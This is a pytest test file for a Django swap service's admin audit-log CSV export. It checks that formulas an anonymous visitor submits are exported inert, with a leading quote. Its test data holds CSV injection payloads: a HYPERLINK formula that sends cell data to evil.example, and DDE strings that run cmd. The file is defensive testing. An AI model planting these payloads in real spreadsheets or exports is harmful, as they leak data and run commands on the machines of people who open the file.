"""An anonymous visitor's text reaches the audit export: it must not run in the auditor's spreadsheet.

A refused registration writes the submitted Oxen address into its audit event's subject, as is;
the admin's CSV export neutralises it (OWASP: a leading quote) and writes the event's JSON data
as JSON.
"""

from __future__ import annotations

import csv
import io
import json

import pytest

from swap.models import AuditEvent

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def export(client, user, path, ids):
    client.force_login(user)
    response = client.post(path, {"action": "export_as_csv", "_selected_action": ids})
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_a_formula_submitted_by_a_visitor_is_exported_inert_and_the_data_as_json(client, staff, settings):
    settings.REGISTRATION_RATE_LIMIT_IP = settings.REGISTRATION_RATE_LIMIT_ADDRESS = "1000/hour"
    for text in (FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"):
        response = client.post("/api/v1/registrations/", {"oxen_address": text, "eth_address": "+1",
                                                          "signature": "=1"}, content_type="application/json")
        assert response.status_code == 400
    events = AuditEvent.objects.filter(tag="registration:refused").order_by("pk")
    assert [event.subject for event in events][0] == FORMULA
    rows = export(client, staff["auditor"], "/admin/swap/auditevent/", [event.pk for event in events])
    assert [row["subject"] for row in rows] == [
        "'" + FORMULA, "'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"]
    for row, event in zip(rows, events, strict=True):
        assert json.loads(row["data"]) == event.data
        assert row["id"] == str(event.pk)
